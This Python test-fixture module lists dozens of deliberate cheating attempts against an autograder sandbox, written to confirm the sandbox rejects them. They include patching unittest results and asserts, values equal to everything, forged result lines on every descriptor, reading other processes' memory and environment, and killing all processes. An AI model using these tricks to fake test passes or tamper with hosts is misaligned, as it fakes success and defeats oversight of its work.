"""Forged passes: wrong solutions of the ``forge`` assignment that try to pass anyway.

Each forgery is the ``WRONG`` solution (every test fails honestly), then ``TOOLS``
(helpers several forgeries share), then code that tries to make the tests pass
without computing the right answers: by reaching the test runner or the result
channel, by returning values that lie, by reading the tests, by bending exceptions,
timeouts or crashes into a verdict. Later definitions replace the wrong ones, so a
forgery redefines only what its technique needs. Run in the secure sandbox, every
forgery must be graded as not passed with no test passed, and must leave the
sandbox able to grade the honest solution.

Forgeries know what any student can know: the assignment's test names, the
documented result format of the old harness, and that the tests compare with
literal values. They never compute an answer.

Not here: an ``is_even`` that answers True, then False, then True, in the order
the tests ask. A plain function with a counter can do that too; it is a weakness
of a test that asks twice in a known order, not of the judge.
"""

from __future__ import annotations

from dataclasses import dataclass

HONEST = """
def answer():
    return 42


def ratio():
    return 0.5


def is_even(n):
    return n % 2 == 0


def parse(s):
    return int(s)


def countdown(n):
    while n > 0:
        yield n
        n -= 1


def apply(f, x):
    return f(x)


def fill(out):
    out.append(42)


class Box:
    def __init__(self, value):
        self.value = value


class Resource:
    value = 42

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        return False
"""

WRONG = """
def answer():
    return 41


def ratio():
    return 0.25


def is_even(n):
    return n % 2 == 1


def parse(s):
    try:
        return int(s)
    except ValueError:
        return None


def countdown(n):
    yield from range(1, n + 1)


def apply(f, x):
    return f(x) + 1


def fill(out):
    out.append(41)


class Box:
    def __init__(self, value):
        self.value = value + 1


class Resource:
    value = 41

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        return False
"""

TOOLS = """
import json, os, sys

TEST_IDS = ["ForgeTest.test_" + name for name in (
    "answer", "ratio", "is_even", "parse_rejects_junk", "countdown",
    "apply", "fill", "box", "resource",
)]


def on_every_call(hook):
    # Runs hook(frame of the caller) first in every function and constructor.
    def wrap(function):
        def wrapper(*args, **kwargs):
            hook(sys._getframe(1))
            return function(*args, **kwargs)
        return wrapper
    for name in ("answer", "ratio", "is_even", "parse", "countdown", "apply", "fill"):
        globals()[name] = wrap(globals()[name])
    Box.__init__ = wrap(Box.__init__)
    Resource.__enter__ = wrap(Resource.__enter__)


def forged_events(nonce, test_ids=TEST_IDS):
    # "Every test passed, done", in the old harness's result format.
    events = [{"nonce": nonce, "event": "test", "test": test, "outcome": "passed",
               "message": ""} for test in test_ids]
    events.append({"nonce": nonce, "event": "done"})
    return "".join(json.dumps(event) + "\\n" for event in events).encode()


def every_fd():
    try:
        return [int(fd) for fd in os.listdir("/proc/self/fd")]
    except OSError:
        return list(range(1025))
"""


@dataclass(frozen=True)
class Forgery:
    name: str
    code: str
    time_limit_s: float = 2.0
    memory_mb: int = 128
    runs: int = 1  # graded this many times in a row, for forgeries that learn

    def __str__(self) -> str:
        return self.name


def forgery(name: str, forging: str, **options: float) -> Forgery:
    return Forgery(name, WRONG + TOOLS + forging, **options)  # type: ignore[arg-type]


# A value equal to everything, shared by the forgeries that return one.
EVERYTHING = """
class Everything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__
"""

FORGERIES: list[Forgery] = [
    # -- 1. Walking up the stack to the runner -------------------------------------
    forgery(
        "stack_walk_patches_the_result",
        """
import unittest

def patch_result(frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, unittest.TestResult):
                value.addFailure = value.addError = lambda *args: None
        frame = frame.f_back

on_every_call(patch_result)
""",
    ),
    forgery(
        "inspect_stack_sends_done_on_the_channel",
        """
import inspect

def report_done(_):
    for info in inspect.stack():
        for value in list(info.frame.f_locals.values()):
            channel = getattr(value, "channel", None)
            if callable(getattr(channel, "send", None)):
                for test in TEST_IDS:
                    channel.send("test", test=test, outcome="passed", message="")
                channel.send("done")
                os._exit(0)

on_every_call(report_done)
""",
    ),
    forgery(
        "traceback_frames_reach_the_test_case",
        """
import contextlib, unittest

def silence_asserts(_):
    try:
        raise RuntimeError("where am I?")
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        test = frame.f_locals.get("self")
        if isinstance(test, unittest.TestCase):  # its class: the test has loaded its asserts
            for name in ("assertEqual", "assertAlmostEqual", "assertTrue", "assertFalse"):
                setattr(type(test), name, lambda *args, **kwargs: None)
            type(test).assertRaises = lambda *args, **kwargs: contextlib.nullcontext()
        frame = frame.f_back

on_every_call(silence_asserts)
""",
    ),
    forgery(
        "expected_failure_flag_set_mid_test",
        """
def expect_failure(frame):
    while frame is not None:
        outcome = getattr(frame.f_locals.get("self"), "_outcome", None)
        if outcome is not None:
            outcome.expecting_failure = True
        frame = frame.f_back

on_every_call(expect_failure)
""",
    ),
    # -- 2. The result channel found through gc ---------------------------------------
    forgery(
        "gc_finds_the_channel_and_its_nonce",
        """
import gc

for obj in gc.get_objects():
    if type(obj).__name__ == "Channel":
        state = vars(obj)
        nonce = next(v for k, v in state.items() if "nonce" in k)
        fd = next(v for k, v in state.items() if k.endswith("fd"))
        os.write(fd, forged_events(nonce))
        os._exit(0)
""",
    ),
    forgery(
        "gc_patches_every_result_object",
        """
import gc, unittest

def patch_results(_):
    for obj in gc.get_objects():
        if isinstance(obj, unittest.TestResult):
            obj.addFailure = obj.addError = obj.addSkip = lambda *args: None

on_every_call(patch_results)
""",
    ),
    # -- 3. Forged lines on every descriptor ------------------------------------------
    forgery(
        "blind_lines_to_fds_0_to_1024",
        """
lines = forged_events("") + b'{"event": "done"}\\n' + b'{"outcome": "passed"}\\n'
for fd in range(1025):
    try:
        os.write(fd, lines)
    except OSError:
        pass
""",
    ),
    forgery(
        "nonce_from_gc_to_every_proc_self_fd",
        """
import gc

nonces = set()
for obj in gc.get_objects():
    state = getattr(obj, "__dict__", None)
    if isinstance(state, dict):
        nonces.update(v for k, v in state.items() if "nonce" in str(k) and isinstance(v, str))
for fd in every_fd():
    for nonce in nonces or {""}:
        try:
            os.write(fd, forged_events(nonce))
        except OSError:
            pass
os._exit(0)
""",
    ),
    # -- 4. unittest internals ------------------------------------------------------
    forgery(
        "outcome_test_part_executor_swallows_everything",
        """
import contextlib, unittest.case

@contextlib.contextmanager
def swallow(self, test_case, subTest=False):
    try:
        yield
    except BaseException:
        pass

unittest.case._Outcome.testPartExecutor = swallow
""",
    ),
    forgery(
        "testcase_run_reports_success",
        """
import unittest

def run(self, result=None):
    result.startTest(self)
    result.addSuccess(self)
    result.stopTest(self)
    return result

unittest.TestCase.run = run
""",
    ),
    forgery(
        "result_subclasses_ignore_failures",
        """
import unittest

def ignore(*args):
    pass

def patch(cls):
    for subclass in cls.__subclasses__():
        subclass.addFailure = subclass.addError = ignore
        patch(subclass)

patch(unittest.TestResult)
""",
    ),
    forgery(
        "assert_code_objects_swapped",
        """
import unittest

def accept(self, *args, **kwargs):
    return None

def raises(self, *args, **kwargs):
    return contextlib.nullcontext()  # resolved in unittest.case's globals

for name in ("assertEqual", "assertAlmostEqual", "assertTrue", "assertFalse"):
    getattr(unittest.TestCase, name).__code__ = accept.__code__
unittest.TestCase.assertRaises.__code__ = raises.__code__
""",
    ),
    forgery(
        "testcase_init_replaces_the_test_method",
        """
import types, unittest

original_init = unittest.TestCase.__init__

def init(self, methodName="runTest"):
    original_init(self, methodName)
    setattr(self, methodName, types.MethodType(lambda self: None, self))

unittest.TestCase.__init__ = init
""",
    ),
    forgery(
        "every_test_marked_expected_failure",
        """
import unittest

unittest.TestCase.__unittest_expecting_failure__ = True
""",
    ),
    # -- 5. builtins ------------------------------------------------------------------
    forgery(
        "build_class_hook_empties_the_test_class",
        """
import builtins, unittest

original_build_class = builtins.__build_class__

def build_class(func, name, *bases, **kwargs):
    cls = original_build_class(func, name, *bases, **kwargs)
    if isinstance(cls, type) and issubclass(cls, unittest.TestCase):
        for attribute in list(vars(cls)):
            if attribute.startswith("test"):
                setattr(cls, attribute, lambda self: None)
    return cls

builtins.__build_class__ = build_class
""",
    ),
    forgery(
        "import_hook_hands_the_tests_a_lenient_unittest",
        """
import builtins, contextlib, types, unittest

class LenientTestCase(unittest.TestCase):
    def accept(self, *args, **kwargs):
        return contextlib.nullcontext()

    assertEqual = assertAlmostEqual = assertTrue = assertFalse = assertRaises = accept

lenient = types.ModuleType("unittest")
lenient.TestCase = LenientTestCase
original_import = builtins.__import__

def hooked_import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "unittest" and (globals or {}).get("__name__") != __name__:
        return lenient
    return original_import(name, globals, locals, fromlist, level)

builtins.__import__ = hooked_import
""",
    ),
    forgery(
        "builtins_list_patched_for_the_tests",
        EVERYTHING
        + """
import builtins

real_list = builtins.list

class PosingAsList(type):
    def __instancecheck__(cls, value):
        return isinstance(value, real_list)

    def __subclasscheck__(cls, subclass):
        return issubclass(subclass, real_list)

class LyingList(real_list, metaclass=PosingAsList):
    def __new__(cls, *args):
        if sys._getframe(1).f_code.co_filename.endswith("tests.py"):
            return Everything()
        return real_list(*args)

builtins.list = LyingList
""",
    ),
    # -- 6. Trace and profile hooks ---------------------------------------------------
    forgery(
        "settrace_rewrites_the_reported_outcome",
        """
def tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "stopTest":
        result = frame.f_locals.get("self")
        if hasattr(result, "outcome"):
            result.outcome, result.message = "passed", ""
    return None

sys.settrace(tracer)
""",
    ),
    forgery(
        "settrace_rewrites_assert_frame_locals",
        """
def tracer(frame, event, arg):
    if event == "call":
        names = frame.f_locals  # written back to the frame after the tracer returns
        if frame.f_code.co_name in ("assertEqual", "assertAlmostEqual"):
            names["first"] = names["second"]
        elif frame.f_code.co_name in ("assertTrue", "assertFalse"):
            names["expr"] = frame.f_code.co_name == "assertTrue"
    return None

sys.settrace(tracer)
""",
    ),
    forgery(
        "setprofile_rewrites_the_reported_outcome",
        """
def profiler(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "stopTest":
        result = frame.f_locals.get("self")
        if hasattr(result, "outcome"):
            result.outcome, result.message = "passed", ""

sys.setprofile(profiler)
""",
    ),
    forgery(
        "threading_settrace_and_setprofile",
        """
import threading

def tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "stopTest":
        result = frame.f_locals.get("self")
        if hasattr(result, "outcome"):
            result.outcome, result.message = "passed", ""
    return None

threading.settrace(tracer)
threading.setprofile(tracer)
""",
    ),
    # -- 7. Asynchronous rewriting ----------------------------------------------------
    forgery(
        "thread_rewrites_results_in_a_loop",
        """
import gc, threading, time, unittest

patched = threading.Event()

def rewrite():
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        for obj in gc.get_objects():
            if isinstance(obj, unittest.TestResult):
                obj.addFailure = obj.addError = lambda *args: None
                patched.set()
        time.sleep(0.001)

threading.Thread(target=rewrite, daemon=True).start()
on_every_call(lambda _: patched.wait(0.2))
""",
    ),
    forgery(
        "sigalrm_handler_rewrites_results",
        """
import signal, time, unittest

patched = []

def on_alarm(signum, frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, unittest.TestResult):
                value.addFailure = value.addError = lambda *args: None
                patched.append(value)
        frame = frame.f_back

def wait_for_the_alarm(_):
    deadline = time.monotonic() + 0.2
    while not patched and time.monotonic() < deadline:
        pass

signal.signal(signal.SIGALRM, on_alarm)
signal.setitimer(signal.ITIMER_REAL, 0.005, 0.005)
on_every_call(wait_for_the_alarm)
""",
    ),
    # -- 8. Values that lie -----------------------------------------------------------
    forgery(
        "int_subclass_equal_to_everything",
        """
class Liar(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

def answer():
    return Liar(41)

def ratio():
    return Liar(0)

def countdown(n):
    for i in range(1, n + 1):
        yield Liar(i)

def apply(f, x):
    return Liar(f(x) + 1)

def fill(out):
    out.append(Liar(41))

class Box:
    def __init__(self, value):
        self.value = Liar(value + 1)

Resource.value = Liar(41)
""",
    ),
    forgery(
        "float_subclass_equal_to_everything",
        """
class Close(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return Close(0.0)

    __rsub__ = __sub__
    __hash__ = float.__hash__

def answer():
    return Close(41.0)

def ratio():
    return Close(0.25)

def apply(f, x):
    return Close(f(x) + 1)

Resource.value = Close(41.0)
""",
    ),
    forgery(
        "object_equal_to_everything",
        EVERYTHING
        + """
def answer():
    return Everything()

def ratio():
    return Everything()

def countdown(n):
    for _ in range(n):
        yield Everything()

def apply(f, x):
    return Everything()

def fill(out):
    out.append(Everything())

class Box:
    def __init__(self, value):
        self.value = Everything()

Resource.value = Everything()
""",
    ),
    forgery(
        "subtraction_and_abs_return_zero",
        """
class NoDistance:
    def __sub__(self, other):
        return self

    __rsub__ = __sub__

    def __abs__(self):
        return 0

def ratio():
    return NoDistance()
""",
    ),
    forgery(
        "class_spoofed_as_int",
        """
class Spoof:
    __class__ = property(lambda self: int)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __index__(self):
        return 41

    __hash__ = object.__hash__

def answer():
    return Spoof()

def apply(f, x):
    return Spoof()

def fill(out):
    out.append(Spoof())

class Box:
    def __init__(self, value):
        self.value = Spoof()

Resource.value = Spoof()
""",
    ),
    forgery(
        "int_subclass_with_a_lying_bool",
        """
import itertools

truths = itertools.cycle([True, False])

class FlipInt(int):
    def __bool__(self):
        return next(truths)

def is_even(n):
    return FlipInt(n % 2)
""",
    ),
    forgery(
        "hash_decides_equality",
        """
class Hashed(int):
    def __hash__(self):
        return hash(int(self) + 1)

    def __eq__(self, other):
        return hash(self) == hash(other)

    def __ne__(self, other):
        return not self == other

def answer():
    return Hashed(41)

def fill(out):
    out.append(Hashed(41))

Resource.value = Hashed(41)
""",
    ),
    forgery(
        "stdlib_value_subclasses_equal_to_everything",
        """
import decimal, fractions

class LyingFraction(fractions.Fraction):
    def __eq__(self, other):
        return True

    __hash__ = fractions.Fraction.__hash__

class LyingDecimal(decimal.Decimal):
    def __eq__(self, other):
        return True

    __hash__ = decimal.Decimal.__hash__

def answer():
    return LyingFraction(41)

def ratio():
    return LyingDecimal("0.25")

def apply(f, x):
    return LyingFraction(f(x) + 1)

Resource.value = LyingDecimal(41)
""",
    ),
    forgery(
        "module_replaced_by_an_object_equal_to_everything",
        """
class Omni:
    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __iter__(self):
        return iter([self, self, self])

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        return False

    __hash__ = object.__hash__

sys.modules[__name__] = Omni()
""",
    ),
    forgery(
        "repr_patches_the_result_while_the_failure_is_formatted",
        """
import unittest

class Quiet:
    def __repr__(self):
        frame = sys._getframe(1)
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if isinstance(value, unittest.TestResult):
                    value.addFailure = value.addError = lambda *args: None
            frame = frame.f_back
        return "41"

def answer():
    return Quiet()

def apply(f, x):
    return Quiet()
""",
    ),
    # -- 9. Exceptions and exits ------------------------------------------------------
    forgery(
        "keyboard_interrupt_from_every_function",
        """
def interrupt(_):
    raise KeyboardInterrupt

on_every_call(interrupt)
""",
    ),
    forgery(
        # Raised as the student's own class: unittest re-raises a KeyboardInterrupt
        # without recording it, so the test it stopped was reported as passed.
        "keyboard_interrupt_subclass_of_the_student",
        """
class Stop(KeyboardInterrupt):
    pass

def answer():
    raise Stop("stop")
""",
    ),
    forgery(
        "system_exit_from_every_function",
        """
def leave(_):
    raise SystemExit(0)

on_every_call(leave)
""",
    ),
    forgery(
        "generator_exit_from_every_function",
        """
def close(_):
    raise GeneratorExit

on_every_call(close)
""",
    ),
    forgery(
        "skip_test_from_every_function",
        """
import unittest

def skip(_):
    raise unittest.SkipTest("not today")

on_every_call(skip)
""",
    ),
    forgery(
        "fake_results_printed_then_os_exit",
        """
calls = []

def print_and_leave(_):
    calls.append(1)
    if len(calls) == 3:
        for stream in (sys.stdout, sys.stderr):
            stream.write(forged_events("").decode())
            stream.write("Ran 9 tests in 0.001s\\n\\nOK\\n")
            stream.flush()
        os._exit(0)

on_every_call(print_and_leave)
""",
    ),
    # -- 10. The environment ----------------------------------------------------------
    forgery(
        "tests_read_from_disk_for_the_expected_values",
        """
import ast, builtins, glob

expected, truths, raises = {}, {}, {}

def learn(tree):
    for node in ast.walk(tree):
        if isinstance(node, ast.With):
            call = node.items[0].context_expr
            if getattr(call.func, "attr", "") == "assertRaises":
                raises[node.body[0].value.func.id] = call.args[0].id
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            continue
        names = [n.id for n in ast.walk(node.args[0]) if isinstance(n, ast.Name)]
        names = [name for name in names if name != "list"] or [""]
        if node.func.attr in ("assertTrue", "assertFalse"):
            truths[ast.literal_eval(node.args[0].args[0])] = node.func.attr == "assertTrue"
        elif node.func.attr in ("assertEqual", "assertAlmostEqual"):
            expected[names[0]] = ast.literal_eval(node.args[1])

for path in ["tests.py", "/task/tests.py", *glob.glob("/*/*.py"), *glob.glob("/tmp/**/*.py")]:
    try:
        with open(path) as file:
            source = file.read()
        if "ForgeTest" in source:
            learn(ast.parse(source))
    except (OSError, SyntaxError, ValueError, AttributeError, IndexError):
        pass

def answer(): return expected.get("answer", 41)
def ratio(): return expected.get("ratio", 0.25)
def is_even(n): return truths.get(n, n % 2 == 1)
def countdown(n): yield from expected.get("countdown", range(1, n + 1))
def apply(f, x): return expected.get("apply", f(x) + 1)
def fill(out): out.extend(expected.get("out", [41]))
def parse(s):
    if "parse" in raises:
        raise getattr(builtins, raises["parse"])(s)
class Box:
    def __init__(self, value): self.value = expected.get("Box", value + 1)
Resource.value = expected.get("resource", 41)
""",
    ),
    forgery(
        "other_processes_cmdline_environ_and_fds",
        """
import re

tokens = set()
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    for part in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as file:
                tokens.update(re.findall(rb"[A-Za-z0-9_-]{20,}", file.read()))
        except OSError:
            pass
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            target = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for token in list(tokens)[:50] or [b""]:
            try:
                os.write(target, forged_events(token.decode()))
            except OSError:
                pass
        os.close(target)
""",
    ),
    forgery(
        "signals_stop_and_kill_every_other_pid",
        """
import signal

for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, sig)
    except OSError:
        pass
for pid in range(1, 1001):
    if pid != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
""",
    ),
    forgery(
        "ptrace_and_process_vm_readv_for_the_nonce",
        r"""
import ctypes, re

libc = ctypes.CDLL(None, use_errno=True)

class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def read_memory(pid, address, length):
    buffer = ctypes.create_string_buffer(length)
    local, remote = IoVec(ctypes.addressof(buffer), length), IoVec(address, length)
    done = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw[: max(done, 0)]

nonces = set()
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    try:
        with open(f"/proc/{pid}/maps") as maps:
            regions = [line.split()[0].split("-") for line in maps if " rw" in line]
    except OSError:
        continue
    for start, end in regions:
        start, end = int(start, 16), min(int(end, 16), int(start, 16) + 2**24)
        nonces.update(re.findall(rb'"nonce": "([A-Za-z0-9_-]+)"', read_memory(pid, start, end - start)))
for fd in every_fd():
    for nonce in nonces:
        try:
            os.write(fd, forged_events(nonce.decode()))
        except OSError:
            pass
""",
    ),
    forgery(
        "own_memory_scanned_for_the_nonce",
        r"""
import re

nonces = set()

def scan(memory, start, end):
    for offset in range(start, min(end, start + 2**26), 2**20):
        try:
            memory.seek(offset)
            chunk = memory.read(min(2**20 + 64, end - offset))
        except (OSError, ValueError, OverflowError):
            return
        nonces.update(re.findall(rb'"nonce": "([A-Za-z0-9_-]{16,})"', chunk))

try:
    with open("/proc/self/maps") as maps:
        regions = [line.split()[0].split("-") for line in maps if " rw-p " in line]
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for start, end in regions:
            scan(memory, int(start, 16), int(end, 16))
except OSError:
    pass
if nonces:
    for fd in every_fd():
        for nonce in nonces:
            try:
                os.write(fd, forged_events(nonce.decode()))
            except OSError:
                pass
    os._exit(0)
""",
        memory_mb=256,
    ),
    forgery(
        "abstract_unix_sockets",
        """
import socket

names = {"gradeflow", "gradeflow-judge", "judge", "forge", "sandbox"}
try:
    with open("/proc/net/unix") as table:
        for line in table.read().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and fields[-1].startswith("@"):
                names.add(fields[-1][1:])
except OSError:
    pass
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as connection:
                connection.settimeout(0.2)
                connection.connect("\\0" + name)
                connection.sendall(forged_events(""))
        except OSError:
            pass
""",
    ),
    forgery(
        "forged_messages_on_inherited_sockets",
        """
import socket, stat

messages = [
    forged_events(""),
    b'{"kind": "result", "outcome": "passed", "passed": true}\\n',
    b'{"type": "verdict", "verdict": "passed", "score": 1.0}\\n',
    b'{"id": 0, "ok": true, "value": {"type": "int", "value": 42}}\\n',
]
for fd in every_fd():
    try:
        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
            continue
        connection = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    connection.settimeout(0.2)
    for message in messages:
        try:
            connection.send(message)
        except OSError:
            pass
    connection.detach()
""",
    ),
    # -- 11. Reverse handles: the callback and the list ---------------------------------
    forgery(
        "callback_globals_reach_unittest",
        """
def accept(self, *args, **kwargs):
    return None

def apply(f, x):
    testcase = f.__globals__["unittest"].TestCase
    testcase.assertEqual.__code__ = accept.__code__
    return f(x) + 1
""",
    ),
    forgery(
        "callback_code_names_the_tests_file",
        """
import re

def apply(f, x):
    with open(f.__code__.co_filename) as file:
        source = file.read()
    found = re.search(r"assertEqual\\(apply\\(.*\\), (\\d+)\\)", source)
    return int(found.group(1)) if found else f(x) + 1
""",
    ),
    forgery(
        "callback_builtins_closure_and_self",
        """
def apply(f, x):
    reachable = [getattr(f, name, None) for name in ("__self__", "__func__", "__wrapped__")]
    reachable += [cell.cell_contents for cell in (f.__closure__ or ())]
    frame = f.__builtins__["__import__"]("sys")._getframe()
    while frame is not None:
        reachable.append(frame.f_locals.get("self"))
        frame = frame.f_back
    for value in reachable:
        if hasattr(value, "assertEqual"):
            type(value).assertEqual = lambda *args, **kwargs: None
    return f(x) + 1
""",
    ),
    forgery(
        "callback_type_subclasses",
        """
def ignore(*args):
    pass

def apply(f, x):
    classes, seen = type(f).__subclasses__() + f.__class__.__mro__[-1].__subclasses__(), set()
    while classes:
        cls = classes.pop()
        if cls in seen:
            continue
        seen.add(cls)
        if any(base.__name__ == "TestResult" for base in cls.__mro__[1:]):
            cls.addFailure = cls.addError = ignore
        try:
            classes += cls.__subclasses__()
        except TypeError:  # type.__subclasses__ needs an argument
            pass
    return f(x) + 1
""",
    ),
    forgery(
        "callback_exception_traceback",
        """
def apply(f, x):
    try:
        f(None)
    except TypeError as exc:
        tb = exc.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        frame = tb.tb_frame  # the callback's own frame, in the tests
        while frame is not None:
            test = frame.f_locals.get("self")
            if hasattr(test, "assertEqual"):
                type(test).assertEqual = lambda *args, **kwargs: None
            frame = frame.f_back
    return f(x) + 1
""",
    ),
    forgery(
        "list_class_and_referrers_reach_the_judge",
        """
import contextlib, gc

@contextlib.contextmanager
def swallow(self, test_case, subTest=False):
    try:
        yield
    except BaseException:
        pass

def fill(out):
    for cls in out.__class__.__mro__[-1].__subclasses__():
        if cls.__name__ == "_Outcome":
            cls.testPartExecutor = swallow
    for referrer in gc.get_referrers(out):
        test = getattr(referrer, "f_locals", {}).get("self")
        if hasattr(test, "assertEqual"):
            type(test).assertEqual = lambda *args, **kwargs: None
    out.append(41)
""",
    ),
    forgery(
        "kept_list_appended_later_by_a_thread",
        """
import threading, time

def fill(out):
    def later():
        time.sleep(0.01)  # well after fill has returned, before the test ends
        out.append(42)

    threading.Thread(target=later, daemon=True).start()
""",
    ),
    # -- 12. Swallowing, looping, crashing where an exception is expected ---------------
    forgery(
        "resource_exit_swallows_the_assertion",
        """
class Resource(Resource):
    def __exit__(self, *exc_info):
        return True
""",
    ),
    forgery(
        "apply_catches_every_callback_exception",
        """
def apply(f, x):
    for argument in (None, object(), "x"):
        try:
            f(argument)
        except BaseException:
            pass
    try:
        return f(x) + 1
    except BaseException:
        return None
""",
    ),
    forgery(
        "parse_loops_forever",
        """
def parse(s):
    while True:
        pass
""",
    ),
    forgery(
        "parse_exits_the_process",
        """
def parse(s):
    os._exit(0)
""",
    ),
    forgery(
        "parse_runs_out_of_memory",
        """
def parse(s):
    hoard = []
    while True:
        hoard.append(bytearray(2**20))
""",
    ),
    forgery(
        "parse_recurses_without_end",
        """
def parse(s):
    return parse(s)
""",
    ),
    # -- 13. Generators and objects ---------------------------------------------------
    forgery(
        "countdown_stops_at_once",
        """
def countdown(n):
    raise StopIteration
    yield
""",
    ),
    forgery(
        "countdown_yields_objects_equal_to_everything",
        EVERYTHING
        + """
def countdown(n):
    for _ in range(n):
        yield Everything()
""",
    ),
    forgery(
        "box_getattr_returns_an_object_equal_to_everything",
        EVERYTHING
        + """
class Box:
    def __init__(self, value):
        pass

    def __getattr__(self, name):
        return Everything()
""",
    ),
    forgery(
        "box_is_a_lying_int_subclass",
        """
class Box(int):
    def __new__(cls, value):
        return super().__new__(cls, value + 1)

    @property
    def value(self):
        return self

    def __eq__(self, other):
        return True

    __hash__ = int.__hash__
""",
    ),
    forgery(
        "resource_enter_returns_a_lying_object",
        EVERYTHING
        + """
class Resource(Resource):
    def __enter__(self):
        lying = Everything()
        lying.value = Everything()
        return lying
""",
    ),
    # -- 14. More ---------------------------------------------------------------------
    forgery(
        "json_encoder_rewrites_outcomes",
        """
original_encode = json.JSONEncoder.encode

def encode(self, value):
    if isinstance(value, dict) and value.get("event") == "test":
        value = {**value, "outcome": "passed", "message": ""}
    return original_encode(self, value)

json.JSONEncoder.encode = encode
""",
    ),
    forgery(
        "channel_class_send_rewrites_outcomes",
        """
import gc

for cls in {type(obj) for obj in gc.get_objects()}:
    if cls.__name__ == "Channel" and "send" in vars(cls):

        def send(self, event, _original=cls.send, **fields):
            if event == "test":
                fields.update(outcome="passed", message="")
            return _original(self, event, **fields)

        cls.send = send
""",
    ),
    forgery(
        "os_write_rewrites_outcomes",
        """
original_write = os.write

def write(fd, data):
    for wrong in (b'"failed"', b'"error"', b'"skipped"'):
        data = bytes(data).replace(b'"outcome": ' + wrong, b'"outcome": "passed"')
    original_write(fd, data)
    return len(data)

os.write = write
""",
    ),
    forgery(
        "stdout_replaced_to_inject_result_lines",
        """
import io

class Injecting(io.TextIOBase):
    def __init__(self, stream):
        self.stream = stream

    def write(self, text):
        self.stream.write(forged_events("").decode() + text)
        return len(text)

    def flush(self):
        self.stream.flush()

sys.stdout, sys.stderr = Injecting(sys.stdout), Injecting(sys.stderr)
print("Ran 9 tests: OK")
""",
    ),
    forgery(
        "atexit_handler_reports_success",
        """
import atexit, gc

def report():
    nonces = {""}
    for obj in gc.get_objects():
        state = getattr(obj, "__dict__", None)
        if isinstance(state, dict):
            nonces.update(v for k, v in state.items() if "nonce" in str(k) and isinstance(v, str))
    for fd in every_fd():
        for nonce in nonces:
            try:
                os.write(fd, forged_events(nonce))
            except OSError:
                pass

atexit.register(report)
""",
    ),
    forgery(
        "finaliser_reports_the_tests_left",
        """
import gc

def report_the_rest():
    for obj in gc.get_objects():
        if hasattr(obj, "reported") and hasattr(obj, "channel"):
            left = [test for test in TEST_IDS if test not in obj.reported]
            for test in left:
                obj.channel.send("test", test=test, outcome="passed", message="")
            obj.channel.send("done")
            os._exit(0)

class Box(Box):
    def __del__(self):
        report_the_rest()

class Cycle:
    def __init__(self):
        self.me = self

    def __del__(self):
        report_the_rest()

Cycle()
""",
    ),
    forgery(
        "tests_module_imported_and_its_class_edited",
        """
import contextlib

def accept(self, *args, **kwargs):
    return contextlib.nullcontext()

def edit_the_tests(_):
    for name in ("tests", "__main__"):
        try:
            module = sys.modules.get(name) or __import__(name)
        except BaseException:
            continue
        for cls in list(vars(module).values()):
            if isinstance(cls, type) and cls.__name__ == "ForgeTest":
                for method in ("assertEqual", "assertAlmostEqual", "assertTrue",
                               "assertFalse", "assertRaises"):
                    setattr(cls, method, accept)

on_every_call(edit_the_tests)
""",
    ),
    forgery(
        "forked_child_outlives_the_student",
        """
import gc, time

started = time.monotonic()
nonces = {""}
for obj in gc.get_objects():
    state = getattr(obj, "__dict__", None)
    if isinstance(state, dict):
        nonces.update(v for k, v in state.items() if "nonce" in str(k) and isinstance(v, str))
if os.fork() == 0:
    os.setsid()
    for _ in range(20):
        time.sleep(0.05)
        for fd in every_fd():
            for nonce in nonces:
                try:
                    os.write(fd, forged_events(nonce))
                except OSError:
                    pass
    os._exit(0)
on_every_call(lambda _: time.sleep(max(0, started + 0.2 - time.monotonic())))
""",
    ),
    forgery(
        "result_files_left_in_tmp_and_dev_shm",
        """
for directory in ("/tmp", "/dev/shm", "/run", os.getcwd()):
    for name in ("result", "results.json", "verdict", "done", "report.jsonl"):
        try:
            with open(os.path.join(directory, name), "wb") as file:
                file.write(forged_events(""))
        except OSError:
            pass
""",
    ),
